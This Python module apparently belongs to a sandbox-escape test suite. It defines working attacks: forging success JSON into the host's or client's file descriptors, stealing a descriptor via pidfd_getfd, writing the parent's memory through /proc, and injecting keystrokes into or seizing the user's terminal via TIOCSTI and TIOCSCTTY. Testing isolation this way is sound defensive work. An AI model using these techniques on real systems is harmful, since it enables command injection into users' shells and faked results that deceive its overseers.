"""What the host says to its client, and what a person sees on the terminal."""

from __future__ import annotations

import fcntl
import os
import termios

from ..system_calls import call
from ..table import CHANGED, FORGED, WORD, NothingFound, attack


@attack(FORGED)
def answer_by_the_parents_descriptors(scene):
    """Writes an answer of its own into every descriptor that the host's process has open."""
    return _forge(os.getppid(), scene)


@attack(FORGED)
def answer_by_the_clients_descriptors(scene):
    """Writes an answer of its own into every descriptor that the client's process has open."""
    with open(f"/proc/{os.getppid()}/stat") as status:
        client = status.read().rpartition(")")[2].split()[1]
    return _forge(client, scene)


@attack(FORGED)
def answer_by_a_stolen_descriptor(scene):
    """Takes over the host's descriptor of the client's pipe, and writes an answer into it."""
    parent = call("pidfd_open", os.getppid(), 0)
    os.write(call("pidfd_getfd", parent, 1, 0), _document(scene))
    return "written"


@attack(WORD)
def answer_by_the_parents_memory(scene):
    """Opens the memory of the host's process, to change what it says."""
    with open(f"/proc/{os.getppid()}/mem", "r+b", 0) as memory, open(f"/proc/{os.getppid()}/maps") as maps:
        start = next(int(line.split("-")[0], 16) for line in maps if "[stack]" in line)
        memory.seek(start)
        memory.write(memory.read(1) and b"\0")
    return "written"


@attack(FORGED, fatal=True)
def answer_by_its_own_descriptors(scene):
    """Writes an answer of its own into every descriptor that it was born with."""
    return _forge("self", scene)


@attack(CHANGED)
def text_on_a_terminal(scene):
    """Writes to the terminal of the user, whatever shell stands there."""
    with open(scene["terminal"], "w") as terminal:
        terminal.write(scene["mark"])
    return "written"


@attack(CHANGED)
def keys_on_a_terminal(scene):
    """Types into the terminal of the user."""
    with open(scene["terminal"], "rb", 0) as terminal:
        for key in scene["mark"]:
            fcntl.ioctl(terminal, termios.TIOCSTI, key.encode())
    return "typed"


@attack(CHANGED)
def keys_on_the_terminal_of_the_session(scene):
    """Opens /dev/tty, the terminal that it was started from, and types there."""
    with open("/dev/tty", "rb", 0) as terminal:
        for key in scene["mark"]:
            fcntl.ioctl(terminal, termios.TIOCSTI, key.encode())
    return "typed"


@attack(CHANGED)
def terminal_taken(scene):
    """Becomes the session to which the terminal of the user belongs."""
    with open(scene["terminal"], "rb", 0) as terminal:
        fcntl.ioctl(terminal, termios.TIOCSCTTY, 1)
        with open(scene["terminal"], "w") as screen:
            screen.write(scene["mark"])
    return "taken"


def _document(scene):
    return f'{{"success":true,"forged":"{scene["mark"]}"}}\n'.encode()


def _forge(process, scene):
    written, last = 0, None
    for name in os.listdir(f"/proc/{process}/fd"):
        if process == "self" and int(name) < 3:
            continue
        try:
            file = os.open(f"/proc/{process}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
            os.write(file, _document(scene))
            written += 1
        except OSError as error:
            last = error
    if not written:
        raise last or NothingFound("no descriptor")
    return f"written to {written}"
